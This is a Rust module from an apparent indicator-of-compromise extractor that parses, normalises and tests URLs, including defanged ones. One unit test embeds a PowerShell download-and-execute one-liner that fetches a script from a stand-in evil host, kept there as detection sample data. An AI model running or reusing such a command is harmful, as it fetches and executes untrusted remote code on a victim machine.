//! URLs with a host that is an address or a dotted name, normalised as browsers do.
//!
//! User name, password and fragment are dropped from the value: they name no resource, and passwords do
//! not belong in result tables. The host of a URL is not reported as a second indicator;
//! [`Indicator::host`](crate::Indicator::host) gives it.
//!
//! In text a URL ends at white space, quotes, angle brackets, a bracket that it did not open, or a
//! comma or semicolon before the next URL; final punctuation is not part of it.

use std::net::IpAddr;
use std::ops::Range;

use url::{Host, Url};

use super::{domain, ipv4, ipv6};
use crate::{Indicator, IndicatorKind};

/// Schemes that are read.
const SCHEMES: &[&str] =
    &["http", "https", "ftp", "ftps", "sftp", "ws", "wss", "ldap", "ldaps", "tcp"];

/// The normalised form of `text`, where it is a URL.
pub(crate) fn parse(text: &str) -> Option<String> {
    let (scheme, _) = text.split_once("://")?;
    if !is_scheme(scheme) {
        return None;
    }
    let mut url = Url::parse(text).ok()?;
    if !url.is_special() {
        let lower = url.host_str()?.to_lowercase();
        url.set_host(Some(&lower)).ok()?;
    }
    host_of(&url)?;
    url.set_fragment(None);
    url.set_username("").ok()?;
    url.set_password(None).ok()?;
    Some(url.into())
}

fn is_scheme(text: &str) -> bool {
    SCHEMES.iter().any(|scheme| scheme.eq_ignore_ascii_case(text))
}

/// The host of a normalised URL, as an indicator of its own.
pub(crate) fn host(url: &str) -> Option<Indicator> {
    host_of(&Url::parse(url).ok()?)
}

fn host_of(url: &Url) -> Option<Indicator> {
    match url.host()? {
        Host::Ipv4(address) => Some(Indicator::from(IpAddr::V4(address))),
        Host::Ipv6(address) => Some(Indicator::from(address.to_canonical())),
        Host::Domain(name) => ipv4::parse(name.as_bytes())
            .map(|address| Indicator::from(IpAddr::V4(address)))
            .or_else(|| ipv6::parse(name).map(Indicator::from))
            .or_else(|| {
                let value = domain::normalise(name)?.into_owned();
                Some(Indicator { kind: IndicatorKind::Domain, value })
            }),
    }
}

/// Start of the scheme that ends at `colon` (the place of `://`), not before `from`.
pub(crate) fn scheme_start(text: &str, from: usize, colon: usize) -> Option<usize> {
    let word = text.get(from..colon)?;
    let letters = word.bytes().rev().take(8).take_while(u8::is_ascii_alphabetic).count();
    let start = colon - letters;
    text.get(start..colon).filter(|scheme| is_scheme(scheme)).map(|_| start)
}

/// Whether `rest`, the text behind `://`, begins with what can be an address or a dotted name; looks at
/// a bounded part.
pub(crate) fn has_host(rest: &str) -> bool {
    const LONGEST_AUTHORITY: usize = 1024;
    let authority =
        rest.bytes().take(LONGEST_AUTHORITY).take_while(|byte| !b"/?# \t\r\n\"'<>".contains(byte));
    let (mut can_be_host, mut first) = (false, true);
    for byte in authority {
        can_be_host |= matches!(byte, b'.' | b'[' | 0x80..) || (first && byte.is_ascii_digit());
        first = false;
    }
    can_be_host
}

/// The URL at `start` of `text`, whose `://` stands at `colon`.
///
/// Returns its value, if it is one, and the span that was looked at: reading goes on behind it either
/// way.
pub(crate) fn read(text: &str, start: usize, colon: usize) -> (Option<String>, Range<usize>) {
    let body = colon + "://".len();
    let rest = text.get(body..).unwrap_or_default();
    let written = rest.get(..extent(rest)).unwrap_or_default();
    let span = start..body + trimmed(written).len();
    (text.get(span.clone()).and_then(parse), span)
}

/// Bytes of `rest` that can belong to one URL.
fn extent(rest: &str) -> usize {
    let (mut round, mut square) = (0u32, 0u32);
    for (at, c) in rest.char_indices() {
        let ends = match c {
            '(' => {
                round += 1;
                false
            }
            '[' => {
                square += 1;
                false
            }
            ')' => closes(&mut round),
            ']' => closes(&mut square),
            ',' | ';' => begins_with_scheme(&rest[at + 1..]),
            '"' | '\'' | '<' | '>' | '`' | '|' | '^' | '{' | '}' | '\\' => true,
            c if c.is_ascii() => c.is_ascii_whitespace() || c.is_ascii_control(),
            c => !c.is_alphanumeric(),
        };
        if ends {
            return at;
        }
    }
    rest.len()
}

/// Counts a closing bracket; `true` where nothing was open.
fn closes(open: &mut u32) -> bool {
    let unbalanced = *open == 0;
    *open = open.saturating_sub(1);
    unbalanced
}

fn begins_with_scheme(rest: &str) -> bool {
    let letters = rest.bytes().take(8).take_while(u8::is_ascii_alphabetic).count();
    is_scheme(&rest[..letters]) && rest[letters..].starts_with("://")
}

fn trimmed(written: &str) -> &str {
    written.trim_end_matches(['.', ',', ';', ':', '!', '?', '(', '[', '*', '$'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract;

    fn found(text: &str) -> Vec<(String, bool)> {
        extract(text).into_iter().map(|found| (found.indicator.value, found.defanged)).collect()
    }

    #[test]
    fn a_url_ends_before_quotes_brackets_and_punctuation() {
        assert_eq!(
            found("(see http://Evil.Example.NET/a_(b)), then")[0].0,
            "http://evil.example.net/a_(b)"
        );
        assert_eq!(
            found(
                "IEX((New-Object Net.WebClient).DownloadString('https://evil.example.net/a.ps1'))"
            )[0]
            .0,
            "https://evil.example.net/a.ps1"
        );
        assert_eq!(
            found(r#"{"url":"http://a.example.com/?q=1&r=2"}"#)[0].0,
            "http://a.example.com/?q=1&r=2"
        );
    }

    #[test]
    fn two_urls_in_a_list_are_two() {
        assert_eq!(
            found("http://a.example.com,http://b.example.com;https://c.example.com.").len(),
            3
        );
    }

    #[test]
    fn a_defanged_url_is_found_and_flagged() {
        let spelt = [
            "hxxp://evil[.]example[.]net/x",
            "hxxps[:]//evil.example(.)net/x",
            "hXXp[://]evil[dot]example{.}net/x",
        ];
        for text in spelt {
            let [found] = extract(text).try_into().unwrap();
            assert!(found.defanged, "{text}");
            assert!(
                found.indicator.value.ends_with("://evil.example.net/x"),
                "{}",
                found.indicator.value
            );
            assert_eq!(found.span, 0..text.len());
        }
    }

    #[test]
    fn user_password_and_fragment_are_dropped() {
        assert_eq!(
            parse("https://user:secret@evil.com:443/x?token=1#frag").unwrap(),
            "https://evil.com/x?token=1"
        );
    }

    #[test]
    fn hosts_may_be_addresses_in_odd_spelling_but_not_single_labels() {
        assert_eq!(parse("http://0x7f.1/a").unwrap(), "http://127.0.0.1/a");
        assert_eq!(parse("http://[2001:db8::1]:8080/").unwrap(), "http://[2001:db8::1]:8080/");
        assert!(parse("http://intranet/x").is_none());
        assert_eq!(host("ldap://198.51.100.9:1389/a").unwrap().value, "198.51.100.9");
    }

    #[test]
    fn the_host_of_a_url_is_not_a_second_indicator() {
        assert_eq!(found("src=http://1.2.3.4:443/evil.com/x.sh end").len(), 1);
    }
}
